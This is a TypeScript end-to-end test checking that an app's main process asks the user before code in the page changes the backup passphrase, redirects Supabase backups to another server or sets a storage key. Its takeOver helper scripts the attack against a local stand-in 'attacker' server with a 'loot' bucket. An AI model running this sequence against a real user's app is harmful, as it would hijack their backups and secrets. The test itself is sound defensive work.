// Journey: code running in the page tries to take the account (issue 11): it sets its own backup
// passphrase, points Supabase backups at its server, then asks for a backup. Main asks the person
// in its own dialog each time; answering Cancel leaves settings and secrets as they were and
// nothing reaches the other server. Answering Continue applies the changes, as the person chose.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Page } from 'playwright';
import { journeySkip, linkByScanningTheScreen, standIn, startJourney } from '../support/journey.js';
import { start as startStorage } from '../support/supabase-server/storage-server.js';

const skip = journeySkip('renderer takeover');

interface Takeover {
  passphrase: string | null;
  settings: string | null;
  key: string | null;
  backup: unknown;
}

/** The three calls an attacker's script would make, run in the page; each error is kept. */
function takeOver(page: Page, url: string): Promise<Takeover> {
  return page.evaluate(async (url) => {
    const k = (globalThis as unknown as { keeper: Record<string, (...a: unknown[]) => Promise<unknown>> }).keeper;
    const attempt = async (f: () => Promise<unknown>) => {
      try {
        await f();
        return null;
      } catch (err) {
        return (err as Error).message;
      }
    };
    const passphrase = await attempt(() => k.setSecret!('backupPassphrase', 'attacker knows this one'));
    const s = (await k.getSettings!()) as { backup: Record<string, unknown> };
    const settings = await attempt(() => k.setSettings!({ ...s, backup: { ...s.backup, target: 'supabase', supabase: { url, bucket: 'loot', prefix: 'taken' } } }));
    const key = await attempt(() => k.setSecret!('supabaseKey', 'attacker-key'));
    let backup: unknown = null;
    // after a confirmed change the sessions restart: ask until the keeper answers
    for (let i = 0; i < 40; i++) {
      try {
        backup = await k.backupNow!('default');
        if ((backup as { outcome: string }).outcome === 'uploaded') break;
      } catch (err) {
        backup = (err as Error).message;
      }
      await new Promise((r) => setTimeout(r, 500));
    }
    return { passphrase, settings, key, backup };
  }, url);
}

test('a script in the page that sets a passphrase, points backups at its server and backs up gets nothing when the person cancels main\'s dialogs', { skip, timeout: 90_000 }, async () => {
  const attacker = await startStorage({ key: 'attacker-key', buckets: ['loot'] });
  const j = await startJourney();
  try {
    await linkByScanningTheScreen(j);
    const page = await j.page();
    const env = () => page.evaluate(() => (globalThis as unknown as { keeper: { getEnvironment(): Promise<{ secrets: { set: Record<string, boolean> } }> } }).keeper.getEnvironment());
    const settingsBefore = await page.evaluate(() => (globalThis as unknown as { keeper: { getSettings(): Promise<unknown> } }).keeper.getSettings());

    // Cancel (unscripted dialogs answer 0, the Cancel button)
    const asked = standIn.dialogCalls.length;
    const cancelled = await takeOver(page, attacker.url);
    assert.match(cancelled.passphrase ?? '', /Cancelled/);
    assert.match(cancelled.settings ?? '', /Cancelled/);
    assert.match(cancelled.key ?? '', /Cancelled/);
    const dialogs = standIn.dialogCalls.slice(asked).filter((d) => d.kind === 'message');
    assert.equal(dialogs.length, 3, 'main asked once per sensitive call');
    assert.ok(dialogs.every((d) => d.parent === j.window()), 'each dialog is main\'s, parented to the window');
    assert.match(JSON.stringify(dialogs[1]?.options), new RegExp(attacker.url.replace(/[.:/]/g, '\\$&')), 'the dialog names where backups would go');
    assert.deepEqual(attacker.requests(), [], 'nothing reached the other server');
    assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { keeper: { getSettings(): Promise<unknown> } }).keeper.getSettings()), settingsBefore);
    assert.deepEqual((await env()).secrets.set, { supabaseKey: false, backupPassphrase: false });

    // Continue: the person chose it, so it applies
    standIn.dialogAnswers.message.push(1, 1, 1);
    const continued = await takeOver(page, attacker.url);
    assert.deepEqual([continued.passphrase, continued.settings, continued.key], [null, null, null]);
    assert.equal((continued.backup as { outcome?: string }).outcome, 'uploaded', JSON.stringify(continued.backup));
    assert.ok(attacker.objects().some((o) => o.bucket === 'loot' && o.path.startsWith('taken/')), 'the backup went where the person agreed');
    assert.deepEqual((await env()).secrets.set, { supabaseKey: true, backupPassphrase: true });
    assert.deepEqual(j.pageProblems, []);
  } finally {
    await j.close();
    await attacker.close();
  }
});
